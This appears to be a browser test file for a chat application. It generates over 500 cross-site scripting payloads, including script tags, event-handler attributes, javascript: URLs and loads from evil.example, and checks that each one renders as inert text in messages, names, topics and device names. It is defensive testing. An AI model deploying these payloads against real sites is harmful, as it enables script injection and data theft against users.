// What others write stays text: some hundred scripts, links and tricks, in every field that somebody else fills.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { Browser, missing, Server, until } from './harness.mjs';

const RUNS = ['alert(1)', "fetch('http://evil.example/')", "document.title='owned'", "location='http://evil.example'"];
const ESCAPES = [(text) => text, (text) => text.toUpperCase(), (text) => text.replace(/</g, '%3C'), (text) => text.replace(/</g, '&lt;'),
  (text) => text.replace(/</g, '\\u003c'), (text) => text.replace(/script/gi, 'scr\u0000ipt').replace(/\0/g, '\u200B')];

/** At least 500 different payloads. */
export function corpus() {
  const plain = RUNS.flatMap((run) => [
    `<script>${run}</script>`, `<script src="http://evil.example/x.js"></script>`, `"><script>${run}</script>`, `'><svg/onload=${run}>`,
    `<img src=x onerror=${run}>`, `<img src="http://evil.example/p.png">`, `<body onload=${run}>`, `<iframe src="javascript:${run}"></iframe>`,
    `<iframe srcdoc="<script>${run}</script>"></iframe>`, `<object data="javascript:${run}"></object>`, `<embed src="http://evil.example/">`,
    `<a href="javascript:${run}">x</a>`, `<form action="javascript:${run}"><button>x</button></form>`, `<math><mtext></mtext><mglyph><style><img src=x onerror=${run}>`,
    `<svg><script>${run}</script></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<details open ontoggle=${run}>`, `<video><source onerror=${run}>`,
    `<input autofocus onfocus=${run}>`, `<marquee onstart=${run}>`, `<link rel=stylesheet href="http://evil.example/x.css">`, `<style>@import 'http://evil.example/x.css'</style>`,
    `<meta http-equiv=refresh content="0;url=http://evil.example">`, `<base href="http://evil.example/">`, `<template><script>${run}</script></template>`,
    `javascript:${run}`, `JaVaScRiPt:${run}`, `java\tscript:${run}`, `data:text/html,<script>${run}</script>`, `vbscript:${run}`, `[x](javascript:${run})`,
    `![x](http://evil.example/p.png)`, `https://a.example/"onmouseover="${run}`, `https://a.example/'><img src=x onerror=${run}>`, `https:javascript:${run}`,
    `\`<script>${run}</script>\``, `**<img src=x onerror=${run}>**`, `{{constructor.constructor('${run}')()}}`, `\${${run}}`, `<!--><img src=x onerror=${run}>-->`,
    `]]><script>${run}</script>`, `</textarea><script>${run}</script>`, `</title><script>${run}</script>`, `\u202E<script>${run}</script>`, `@here"><img src=x onerror=${run}>`,
  ]);
  return [...new Set(plain.flatMap((text) => ESCAPES.map((escape) => escape(text))))];
}

describe('a hostile member', { skip: missing }, () => {
  let server;
  let browser;
  let alice;
  let mallory;

  before(async () => {
    server = await Server.start();
    browser = await Browser.start();
    alice = await browser.register(server, 'alice');
    mallory = await server.person('mallory');
  });
  after(async () => {
    await browser?.stop();
    await server?.stop();
  });

  const inert = async () => {
    const found = await alice.page.evaluate(() => ({
      foreign: document.querySelectorAll('script:not([src="/page/main.js"]), iframe, object, embed, img, svg, math, style, base, video, form[action], meta[http-equiv]').length,
      links: [...document.querySelectorAll('a[href]')].filter(({ protocol, rel, hash, origin }) =>
        !(origin === location.origin && hash) && !(/^https?:$/.test(protocol) && rel === 'noopener noreferrer')).map((node) => node.outerHTML),
      handlers: [...document.querySelectorAll('*')].filter((node) => [...node.attributes].some(({ name }) => name.startsWith('on'))).length,
      title: document.title,
    }));
    assert.deepEqual({ ...found, title: '' }, { foreign: 0, links: [], handlers: 0, title: '' });
    assert.doesNotMatch(found.title, /owned/);
  };

  test('the corpus in texts', async () => {
    const payloads = corpus();
    assert.ok(payloads.length >= 500, String(payloads.length));
    const { conversations: [{ id }] } = await mallory.call('GET', '/conversations');
    for (const [at, body] of payloads.entries()) {
      await mallory.call('POST', `/conversations/${id}/messages`, { id: crypto.randomUUID(), body });
      if (at % 100 === 99) await until('it is drawn', async () => (await alice.texts()).length >= at + 1);
    }
    await until('all are drawn', async () => (await alice.texts()).length === payloads.length);
    await inert();
    // Every text is there, as text: what cannot be seen is written out, and a little Markdown is drawn.
    const letters = (text) => text.replace(/[*_`>]/g, '').replace(/\s+/g, ' ').trim();
    const shown = (await alice.texts()).map(letters);
    const written = payloads.map((text) => letters(text.replace(/[\u200B\u202E]/g, (c) => `⟨U+${c.codePointAt(0).toString(16).toUpperCase()}⟩`)));
    assert.deepEqual(shown, written);
  });

  test('the corpus in names, states, topics, devices, replies and reactions', async () => {
    const payloads = corpus().filter((text) => text.length <= 64);
    assert.ok(payloads.length >= 100, String(payloads.length));
    const group = await mallory.call('POST', '/groups', { name: 'trap' });
    await mallory.call('PUT', `/groups/${group.id}/members/alice`);
    await alice.open('#trap');
    const wanted = payloads.filter((_, at) => at % 5 === 0);
    for (const [at, text] of wanted.entries()) {
      await mallory.call('PATCH', '/me', { display_name: text, status_text: text });
      await mallory.call('PATCH', `/groups/${group.id}`, { topic: text });
      const sent = await mallory.call('POST', `/conversations/${group.id}/messages`, { id: crypto.randomUUID(), body: text });
      await mallory.call('POST', `/conversations/${group.id}/messages`, { id: crypto.randomUUID(), body: `${text} again ${at}`, reply_to: sent.seq });
      await mallory.call('PUT', `/conversations/${group.id}/messages/${sent.seq}/reactions/${encodeURIComponent('🎉')}`);
    }
    await until('all are drawn', async () => (await alice.texts()).length === wanted.length * 2);
    await inert();
    const { id: direct } = await mallory.call('POST', '/directs', { username: 'alice' });
    await mallory.call('POST', `/conversations/${direct}/messages`, { id: crypto.randomUUID(), body: wanted[0] });
    await alice.page.locator('#direct a').click();
    await until('the direct is open', async () => (await alice.texts()).length === 1);
    await inert();
    for (const name of ['Members', 'Join or create a group', 'Write to somebody', 'About this conversation']) {
      await alice.page.getByRole('button', { name }).click();
      await alice.page.getByRole('dialog').waitFor();
      await inert();
      await alice.page.keyboard.press('Escape');
    }
    await server.call(null, 'POST', '/auth/login', { username: 'alice', password: 'correct horse battery', device_name: '<img src=x onerror=alert(1)>' });
    await alice.page.locator('#account').click();
    await alice.page.locator('.list li').nth(1).waitFor();
    await inert();
  });

  test('nothing ran, nothing was asked of others, nothing was complained about', () => alice.clean(assert));
});
